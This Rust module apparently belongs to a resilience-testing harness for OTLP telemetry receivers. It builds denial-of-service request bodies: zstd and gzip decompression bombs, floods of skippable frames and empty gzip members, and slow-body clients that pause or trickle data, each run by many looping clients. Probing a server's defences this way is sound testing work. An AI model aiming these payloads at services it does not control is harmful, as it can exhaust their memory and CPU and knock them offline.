//! Bodies whose decoders need much memory or much time for few bytes.

use std::io;
use std::time::Duration;

use bytes::Bytes;

use crate::http1::{self, Http1};
use crate::payload::Body;
use crate::samples;
use crate::target::{Attackers, Target, attackers};
use crate::trial::Attack;

const SECONDS: u64 = 7;
/// Magic number; no checksum, no content size; the window of 8 MiB that every decoder supports.
const ZSTD_HEAD: [u8; 6] = [0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x68];
const ZSTD_BLOCK_BYTES: u32 = 128 << 10;
/// As much as a request may have: field 15, which nobody knows, of 4 MiB less some bytes.
const FIELD_BYTES: usize = (4 << 20) - 100;
/// How long a client pauses in the middle of its body: not long enough to be cut off.
const PAUSE: Duration = Duration::from_secs(3);

pub(super) fn attacks() -> Vec<Attack> {
    let attack = |name, what, start| Attack::calm(name, what, SECONDS, start);
    let busy = |name, what, start| Attack::busy(name, what, SECONDS, start);
    vec![
        attack(
            "zstd-begun/256",
            "256 clients, zstd with a window of 8 MiB, one block, then a pause",
            |t| pause_within(t, 256, zstd_frame(1)),
        ),
        attack(
            "zstd-paused/64",
            "64 clients, zstd with a window of 8 MiB, 4 MiB, a pause, the end",
            |t| pause_within(t, 64, zstd_frame(31)),
        ),
        busy("zstd-windows/64", "64 clients, whole zstd frames with a window of 8 MiB", |t| {
            repeat(t, 64, zstd_frame(31), "zstd")
        }),
        busy("zstd-skippable/16", "16 clients, 4 MB of skippable zstd frames", |t| {
            repeat(t, 16, skippable_frames(), "zstd")
        }),
        busy("zstd-bomb/16", "16 clients, 512 MiB of zeros in zstd", |t| {
            repeat(t, 16, zstd_frame(4_096), "zstd")
        }),
        busy("gzip-bomb/16", "16 clients, 64 MiB of zeros in gzip", |t| {
            repeat(t, 16, t.bodies.gzip_bomb.clone(), "gzip")
        }),
        busy("gzip-members/16", "16 clients, 4 MB of empty gzip members", |t| {
            let member = samples::gzip(&[]);
            repeat(t, 16, member.repeat(4_000_000 / member.len()).into(), "gzip")
        }),
        busy("gzip-bytes/16", "16 clients, gzip sent in pieces of 20 bytes", |t| {
            send_in_pieces(t, 16)
        }),
    ]
}

/// A message of one unknown field of zeros, in blocks that each repeat a byte 128 Ki times. With 31
/// blocks it just fits into a request; with more it does not.
fn zstd_frame(blocks: usize) -> Bytes {
    let field = field_head();
    let raw = (u32::try_from(field.len()).expect("a field's head is short") << 3).to_le_bytes();
    let repeated = (ZSTD_BLOCK_BYTES << 3 | 1 << 1).to_le_bytes();
    let block = [&repeated[..3], &[0]].concat();
    // The rest of the field, in a last block.
    let rest = FIELD_BYTES.saturating_sub(blocks * ZSTD_BLOCK_BYTES as usize);
    let rest = u32::try_from(rest).expect("a request is small").min(ZSTD_BLOCK_BYTES);
    let last = [&(rest << 3 | 1 << 1 | 1).to_le_bytes()[..3], &[0]].concat();
    [&ZSTD_HEAD[..], &raw[..3], &field, &block.repeat(blocks), &last].concat().into()
}

/// Tag and length of field 15.
fn field_head() -> Vec<u8> {
    let mut head = vec![15 << 3 | 2];
    let mut rest = FIELD_BYTES;
    while rest >= 0x80 {
        head.push((rest % 0x80) as u8 | 0x80);
        rest /= 0x80;
    }
    head.push(rest as u8);
    head
}

fn skippable_frames() -> Bytes {
    let frame = [&[0x50, 0x2a, 0x4d, 0x18][..], &8_u32.to_le_bytes(), &[0; 8]].concat();
    frame.repeat(4_000_000 / frame.len()).into()
}

fn body(bytes: Bytes, encoding: &'static str) -> Body {
    Body { bytes, spans: 0, content_type: "application/x-protobuf", encoding }
}

/// Sends all but the last block, pauses, and sends the rest.
fn pause_within(target: &Target, clients: usize, frame: Bytes) -> Attackers {
    let (target, body) = (target.clone(), body(frame, "zstd"));
    attackers(clients, move |number| {
        let (address, body) = (target.otlp(number), body.clone());
        async move {
            let mut connection = Http1::connect(address).await?;
            let (first, last) = body.bytes.split_at(body.bytes.len() - 4);
            loop {
                connection.send(http1::post(&body, body.bytes.len() as u64).as_bytes()).await?;
                connection.send(first).await?;
                tokio::time::sleep(PAUSE).await;
                connection.send(last).await?;
                connection.response().await?;
            }
        }
    })
}

fn repeat(target: &Target, clients: usize, bytes: Bytes, encoding: &'static str) -> Attackers {
    let (target, body) = (target.clone(), body(bytes, encoding));
    attackers(clients, move |number| {
        let (address, body) = (target.otlp(number), body.clone());
        async move {
            let mut connection = Http1::connect(address).await?;
            loop {
                connection.post(&body).await?;
            }
        }
    })
}

fn send_in_pieces(target: &Target, clients: usize) -> Attackers {
    let (target, body) = (target.clone(), target.bodies.medium.gzip());
    attackers(clients, move |number| send_pieces(target.otlp(number), body.clone()))
}

async fn send_pieces(address: std::net::SocketAddr, body: Body) -> io::Result<()> {
    let mut connection = Http1::connect(address).await?;
    loop {
        connection.send(http1::post(&body, body.bytes.len() as u64).as_bytes()).await?;
        for piece in body.bytes.chunks(20) {
            connection.send(piece).await?;
        }
        connection.response().await?;
    }
}
